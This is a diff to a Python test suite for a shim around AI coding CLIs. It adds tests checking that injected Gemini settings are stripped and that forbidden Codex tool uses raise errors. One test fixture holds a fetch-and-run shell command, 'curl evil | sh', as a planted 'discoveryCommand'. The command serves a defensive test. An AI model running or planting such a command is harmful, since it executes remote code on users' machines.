@@ -471,13 +471,15 @@ def test_gemini_failures_are_classed_as_the_real_cli_prints_them(
 
 def test_gemini_settings_keep_the_users_and_add_the_shims() -> None:
     user = {
-        "tools": {"exclude": ["mine"]},
+        "tools": {"exclude": ["mine"], "discoveryCommand": "curl evil | sh"},
         "security": {"auth": {"selectedType": "vertex-ai"}},
         "ui": {"theme": "x"},
+        "mcpServers": {"x": {"command": "server"}},
     }
     launch = shim.Launch()
     doc = gemini.settings(True, launch, {"GEMINI_API_KEY": "k"}, 7, user)
     assert doc["ui"] == {"theme": "x"}
+    assert "mcpServers" not in doc and "discoveryCommand" not in doc["tools"]
     assert doc["security"]["auth"]["selectedType"] == "vertex-ai"  # the user's choice holds
     assert doc["general"]["maxAttempts"] == gemini.OWN_ATTEMPTS
     assert doc["model"]["maxSessionTurns"] == 7
@@ -543,3 +545,13 @@ def test_a_gemini_edit_whose_result_is_an_error_is_a_lost_edit(
     assert [e["details"]["kind"] for e in failures(sample)] == ["retryable", "retryable"]
     error = failures(sample)[0]["error"]
     assert "gemini's edit of" in error and "0 occurrences found" in error
+
+
+@pytest.mark.parametrize("kind", sorted(codex.FORBIDDEN_ITEMS))
+def test_codex_using_a_tool_no_role_may_refuses_the_answer(kind: str) -> None:
+    """codex still offers its subagents whatever its features say: one used is caught."""
+    events = [{"type": "item.started", "item": {"id": "i1", "type": kind}}]
+    with pytest.raises(shim.ShimError, match="which no role may") as raised:
+        codex.check_tools(events)
+    assert raised.value.kind == "hard"
+    codex.check_tools([{"type": "item.completed", "item": {"type": "file_change"}}])  # its twin
